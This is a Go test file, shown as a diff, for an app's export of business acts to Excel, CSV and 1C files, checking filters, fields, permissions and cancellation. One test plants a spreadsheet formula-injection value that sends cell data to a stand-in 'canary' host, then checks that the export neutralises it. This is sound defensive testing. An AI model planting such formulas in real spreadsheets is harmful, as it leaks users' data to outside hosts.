@@ -1,0 +1,208 @@
+package app_test
+
+import (
+	"context"
+	"database/sql"
+	"fmt"
+	"mime"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/PuerkitoBio/goquery"
+
+	"acts24/cmd/app/apptest"
+	"acts24/handlers/tables/tablestest"
+)
+
+// table downloads an export and reads its rows as Excel shows them raw; the first is the titles.
+func (s *site) table(path string) (rows [][]string, name string) {
+	s.t.Helper()
+	p, err := s.manager.Get(path)
+	if err != nil || p.Status != http.StatusOK {
+		s.t.Fatalf("%s: status %d, %v\n%.500s", path, p.Status, err, p.Body)
+	}
+	if p.Header.Get("Content-Length") != fmt.Sprint(len(p.Body)) {
+		s.t.Errorf("%s: %d bytes of %s", path, len(p.Body), p.Header.Get("Content-Length"))
+	}
+	_, params, err := mime.ParseMediaType(p.Header.Get("Content-Disposition"))
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	if strings.Contains(path, "format=csv") {
+		rows, err = tablestest.CSV(p.Body)
+	} else {
+		rows, err = tablestest.Workbook([]byte(p.Body))
+	}
+	if err != nil {
+		s.t.Fatalf("%s: %v", path, err)
+	}
+	return rows, params["filename"]
+}
+
+// column is a column of a table without its title.
+func column(t *testing.T, rows [][]string, title string) (cells []string) {
+	t.Helper()
+	at := slices.Index(rows[0], title)
+	if at < 0 {
+		t.Fatalf("no column %q in %q", title, rows[0])
+	}
+	for _, r := range rows[1:] {
+		cell := ""
+		if at < len(r) {
+			cell = r[at]
+		}
+		cells = append(cells, cell)
+	}
+	return cells
+}
+
+// A list leaves as a table with exactly the acts of its filter, whatever page is open.
+func TestExportIsTheList(t *testing.T) {
+	t.Parallel()
+	s := start(t, 1)
+	s.send(s.deal(1))
+	s.copies(70)
+	s.sql(`UPDATE acts SET company_id = 777, buyer = jsonb_set(buyer, '{name}', '"=HYPERLINK(\"http://canary/?\"&A1)"') WHERE number LIKE 'К-1%'`)
+	for _, query := range []string{"", "status=sent&status=refused", "q=К-1", "medium=paper", "responsible=" + fmt.Sprint(s.portal.Manager())} {
+		var want []string
+		address := "/p/1/acts?" + query
+		for pages := 0; address != ""; pages++ {
+			p, err := s.manager.Get(address)
+			doc := s.page(p, err, http.StatusOK)
+			want = append(want, numbersOf(doc)...)
+			address = testid(doc, "next-page").AttrOr("href", "")
+		}
+		for _, format := range []string{"xlsx", "csv"} {
+			rows, _ := s.table("/p/1/acts/export?format=" + format + "&" + query)
+			if got := column(t, rows, "Номер"); !slices.Equal(got, want) {
+				t.Errorf("%s of %q has %d acts %q, want %d %q", format, query, len(got), got, len(want), want)
+			}
+		}
+	}
+	rows, name := s.table("/p/1/companies/777/export?format=csv")
+	if got := column(t, rows, "Контрагент"); len(got) != 11 || got[0] != `'=HYPERLINK("http://canary/?"&A1)` || !strings.HasPrefix(name, "Акты компании ") {
+		t.Errorf("the table «%s» of a company has %q", name, got)
+	}
+	if rows, _ := s.table("/p/1/contacts/88/export?format=xlsx"); len(rows) != 1 {
+		t.Errorf("a contact without acts has a table of %d rows", len(rows))
+	}
+}
+
+// The links of a list carry its filter, and the files say what the act's own page says.
+func TestExportTellsAll(t *testing.T) {
+	t.Parallel()
+	s := start(t, 1)
+	s.send(s.deal(1))
+	doc := s.registry("medium=electronic")
+	links := map[string]string{}
+	for _, format := range []string{"xlsx", "csv", "1c"} {
+		links[format] = testid(doc, "export-"+format).AttrOr("href", "")
+	}
+	rows, name := s.table(links["xlsx"])
+	today := s.clock.now().UTC()
+	serial := fmt.Sprint(int(today.Truncate(24*time.Hour).Sub(time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24))
+	want := map[string]string{"Дата": serial, "Тип": "Электронный, юрлицо", "Статус": "Подготовка акта", "Контрагент": "ООО «Контрагент 1»",
+		"ИНН": apptest.CounterpartyOf(1).Organization.INN, "КПП": "780201001", "Сделка": "Продвижение продукции № 1", "Наша организация": apptest.Own.Name,
+		"Сумма, ₽": "17800.00", "Без НДС, ₽": "15131.15", "НДС, ₽": "2668.85", "Подписан": ""}
+	for title, cell := range want {
+		if got := column(t, rows, title); len(got) != 1 || got[0] != cell {
+			t.Errorf("%s: %q, want %q", title, got, cell)
+		}
+	}
+	if link := column(t, rows, "Ссылка")[0]; !strings.HasPrefix(link, s.portal.URL()+"/marketplace/view/") || !strings.HasSuffix(link, "params[actId]=1") {
+		t.Errorf("the link to the act is %q", link)
+	}
+	if !strings.HasPrefix(name, "Акты ") || !strings.HasSuffix(name, ".xlsx") {
+		t.Errorf("the file is called %q", name)
+	}
+	lines, _ := s.table(links["1c"])
+	for title, cells := range map[string][]string{"НомерСтроки": {"1", "2", "3"}, "Номенклатура": {"Участие в выставке", "Подготовка каталога", "Перевод материалов"},
+		"Количество": {"1", "4", "2"}, "Цена": {"10000.00", "1200.00", "1500.00"}, "СтавкаНДС": {"22%", "22%", "Без НДС"}, "СуммаНДС": {"1803.28", "865.57", "0.00"},
+		"Всего": {"10000.00", "4800.00", "3000.00"}, "КонтрагентИНН": slices.Repeat([]string{want["ИНН"]}, 3)} {
+		if got := column(t, lines, title); !slices.Equal(got, cells) {
+			t.Errorf("для 1С, %s: %q, want %q", title, got, cells)
+		}
+	}
+	if testid(s.registry("q=нет"), "exports").Length() != 0 {
+		t.Error("an empty list offers an export")
+	}
+}
+
+// What cannot be exported is said in a sentence, and a visitor takes out what he may see.
+func TestExportRefuses(t *testing.T) {
+	t.Parallel()
+	s := start(t, 2)
+	s.send(s.deal(1))
+	for query, words := range map[string]string{"format=doc": "Такой выгрузки нет", "": "Такой выгрузки нет", "format=csv&status=paid": "в условиях фильтра ошибка"} {
+		p, err := s.manager.Get("/p/1/acts/export?" + query)
+		if doc := s.page(p, err, http.StatusUnprocessableEntity); !strings.Contains(testid(doc, "message").Text(), words) {
+			t.Errorf("%q answers %q", query, testid(doc, "message").Text())
+		}
+	}
+	s.copies(10)
+	s.sql(`INSERT INTO people (portal_id, user_id, sees) VALUES (1, ` + fmt.Sprint(s.portal.Manager()) + `, '{77}')`)
+	s.sql(`UPDATE acts SET responsible_id = 77 WHERE number IN ('К-1', 'К-7')`)
+	if rows, _ := s.table("/p/1/acts/export?format=csv"); !slices.Equal(column(t, rows, "Номер"), []string{"К-1", "К-7"}) {
+		t.Errorf("who sees two acts takes out %q", rows[1:])
+	}
+}
+
+// When the browser is gone, so is the question to the database.
+func TestExportStopsWithItsVisitor(t *testing.T) {
+	t.Parallel()
+	s := start(t, 1)
+	s.send(s.deal(1))
+	s.await("the jobs have nothing to do", func() bool { return s.count(`tasks WHERE due_at < clock_timestamp() + interval '1 minute'`) == 0 })
+	unlock := s.lock(`LOCK TABLE act_events IN ACCESS EXCLUSIVE MODE`)
+	defer unlock()
+	ctx, leave := context.WithCancel(t.Context())
+	r, err := http.NewRequestWithContext(ctx, http.MethodGet, s.AppURL+"/p/1/acts/export?format=xlsx", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Header.Set("Cookie", s.manager.Cookies("/"))
+	done := make(chan error, 1)
+	go func() {
+		answer, err := http.DefaultClient.Do(r)
+		if err == nil {
+			answer.Body.Close()
+		}
+		done <- err
+	}()
+	const asking = `pg_locks WHERE NOT granted AND mode = 'AccessShareLock' AND relation = CAST('act_events' AS regclass)
+		AND database = (SELECT oid FROM pg_database WHERE datname = current_database())`
+	s.await("the export asks the database", func() bool { return s.count(asking) == 1 })
+	leave()
+	if err := <-done; err == nil {
+		t.Error("the visitor got an answer")
+	}
+	s.await("the database is asked no more", func() bool { return s.count(asking) == 0 })
+}
+
+// lock holds a lock of the database until it is let go.
+func (s *site) lock(statement string) (unlock func()) {
+	s.t.Helper()
+	db, err := sql.Open("postgres", s.owner)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	tx, err := db.Begin()
+	if err == nil {
+		_, err = tx.Exec(statement)
+	}
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	return func() { tx.Rollback(); db.Close() }
+}
+
+// numbersOf are the numbers of a page of acts.
+func numbersOf(doc *goquery.Document) (numbers []string) {
+	doc.Find("table.registry tbody tr td:first-child a").Each(func(_ int, a *goquery.Selection) {
+		numbers = append(numbers, strings.TrimPrefix(a.Text(), "Без номера"))
+	})
+	return numbers
+}
